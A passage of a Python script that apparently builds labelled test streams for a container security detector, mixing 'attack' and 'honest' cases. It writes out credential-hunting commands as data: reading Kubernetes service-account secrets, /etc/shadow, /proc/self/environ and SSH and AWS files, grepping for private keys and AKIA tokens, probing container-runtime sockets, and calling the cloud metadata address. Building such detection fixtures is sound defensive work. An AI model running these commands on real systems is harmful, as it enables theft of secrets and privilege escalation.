        s.run(40, "/usr/bin/cat", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/" + name)
    s.save()
    def sockets(name, *paths):
        s = Stream("privilege_escalation_attempt." + name)
        for path in paths:
            s.add(9, kind="call", pid=100, call="connect", text=path)
        s.save()

    sockets("attack-managers", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/systemd/private")
    # crictl's defaults
    sockets("honest-client-of-runtimes", "/run/containerd/containerd.sock", "/run/crio/crio.sock",
            "/var/run/cri-dockerd.sock")
    sockets("attack-managers-of-machines", "/run/systemd/private", "/var/lib/lxd/unix.socket",
            "/run/libvirt/libvirt-sock")
    sockets("honest-client-of-containers", "/var/run/docker.sock", "/run/user/1000/docker.sock",
            "/run/podman/podman.sock", "/run/user/1000/podman/podman.sock",
            "/run/dbus/system_bus_socket", "/run/systemd/journal/dev-log", "/var/run/nscd/socket")
    # of a project's own, for what others read, and what they leave out
    s = Stream("privilege_escalation_attempt.honest-searches")
    for words in (("find", ".", "-name", "id_rsa", "-o", "-name", ".env*"),
                  ("find", "/", "-name", "*.pem", "-o", "-name", "*.crt"),
                  ("find", "/home", "-not", "-path", "*/.ssh/*", "-name", "*.py"),
                  ("find", "/", "-path", "/root/.ssh", "-prune", "-o", "-name", "x.conf"),
                  ("find", "/", "-path", "*/.ssh", "-prune", "-o", "-size", "+1G"),
                  ("find", "/etc/ssl", "-name", "*.key", "-o", "-name", "*.pem"),
                  ("find", "/usr", "-name", "libshadow*"), ("grep", "-rn", "BEGIN RSA PRIVATE KEY", "."),
                  ("grep", "-r", "password", "/etc"),
                  ("rg", "AKIA", "/workspace"), ("grep", "PRIVATE KEY", "/etc"), ("cat", "/etc/passwd"),
                  ("cat", "/proc/self/environ"),
                  ("cat", "/root/.ssh/known_hosts", "/home/ann/.ssh/id_rsa.pub"), ("head", "/etc/shadow"),
                  ("ls", "-la", "/root/.ssh", "/root/.aws")):
        s.run(40, "/usr/bin/" + words[0], *words)
    s.connect(9, "169.254.169.254", 80, verdict="refused", error=111).connect(9, "169.254.169.254", 80,
                                                                              verdict="refused", error=111).save()


for make in (mining, scanning, exfiltration, forks, cpu, shells, hunts):
    make()
